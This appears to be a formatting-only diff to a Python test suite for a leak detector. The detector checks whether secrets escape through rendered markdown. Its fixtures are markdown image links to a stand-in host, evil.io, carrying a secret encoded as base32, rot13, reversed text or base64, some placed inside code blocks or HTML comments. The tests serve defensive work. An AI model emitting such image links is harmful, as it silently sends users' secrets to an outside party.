@@ -830,7 +830,10 @@ B32 = base64.b32encode(SECRET.encode()).decode()
 ROT13 = codecs.encode(SECRET, "rot13")
 ENCODED_LEAKS = {
     "base32": (f"![x](https://evil.io/c?d={B32})", "base32"),
-    "base32 lower case, no padding": (f"![x](https://evil.io/c?d={B32.rstrip('=').lower()})", "base32"),
+    "base32 lower case, no padding": (
+        f"![x](https://evil.io/c?d={B32.rstrip('=').lower()})",
+        "base32",
+    ),
     "base32 in a subdomain": (f"![x](https://{B32.rstrip('=').lower()}.evil.io/c.png)", "base32"),
     "base32 of a sentence": (
         f"![x](https://evil.io/c?d={base64.b32encode(f'user key: {SECRET}!'.encode()).decode()})",
@@ -838,7 +841,10 @@ ENCODED_LEAKS = {
     ),
     "rot13": (f"![x](https://evil.io/c?d={ROT13})", "plain+rot13"),
     "reversed": (f"![x](https://evil.io/c/{SECRET[::-1]}.png)", "plain+reversed"),
-    "reversed, mixed case": (f"![x](https://evil.io/c?d={SECRET[::-1].swapcase()})", "plain+reversed"),
+    "reversed, mixed case": (
+        f"![x](https://evil.io/c?d={SECRET[::-1].swapcase()})",
+        "plain+reversed",
+    ),
     "rot13 then reversed": (f"![x](https://evil.io/c?d={ROT13[::-1]})", "plain+reversed+rot13"),
     "base64 of reversed": (f"![x](https://evil.io/c?d={b64(SECRET[::-1])})", "base64+reversed"),
     "base64url of rot13, no padding": (
@@ -891,14 +897,14 @@ def test_a_short_string_is_not_looked_for_reversed_or_rot13():
 
 HIDDEN = {
     "fenced code block": f"Example:\n\n```\n![x]({URL})\n```\n",
-    "fenced code block with a language": f"```html\n<img src=\"{URL}\">\n```",
+    "fenced code block with a language": f'```html\n<img src="{URL}">\n```',
     "tilde fence": f"~~~\n{URL}\n~~~",
     "unclosed fence (code to the end)": f"Like this:\n```\n![x]({URL})\n",
     "indented code block": f"Example:\n\n    ![x]({URL})\n",
     "code block in a list item": f"1. Step one:\n\n   ```\n   {URL}\n   ```\n",
     "inline code": f"Use `{URL}` as the endpoint.",
     "inline code with double backticks": f"Use ``![x]({URL}) ` `` as shown.",
-    "html in inline code": f"Write `<img src=\"{URL}\">` in the page.",
+    "html in inline code": f'Write `<img src="{URL}">` in the page.',
     "html comment": f"Done.<!-- ![x]({URL}) -->",
     "html comment block": f"<!--\n<img src={URL}>\n{URL}\n-->\nDone.",
     "unclosed html comment": f"Done. <!-- {URL}",
@@ -918,7 +924,7 @@ RENDERED = {
     "escaped backtick opens no code span": f"A \\`tick ![x]({URL}) and `code`",
     "unmatched backticks are literal": f"Three ``` in a sentence, then {URL}",
     "after a comment": f"<!-- note --> ![x]({URL})",
-    "html img in an html block": f"<div>\n<img src=\"{URL}\">\n</div>",
+    "html img in an html block": f'<div>\n<img src="{URL}">\n</div>',
     "image in a quote": f"> ![x]({URL})",
     "image in a list item": f"- see ![x]({URL})",
     "bare url in a heading": f"# Report {URL}",
@@ -1087,7 +1093,20 @@ def test_ordinary_urls_do_not_assemble_protected_values():
     # Vendor and courier links with versions, dates, ids and numbers, beside the kinds of values
     # a case protects (a phone, an account, a record code, a name): no pieces make one of them.
     rng = random.Random(7)
-    words = "docs release notes download setup guide track parcel order status api v2".split()
+    words = [
+        "docs",
+        "release",
+        "notes",
+        "download",
+        "setup",
+        "guide",
+        "track",
+        "parcel",
+        "order",
+        "status",
+        "api",
+        "v2",
+    ]
 
     def segment() -> str:
         return rng.choice(
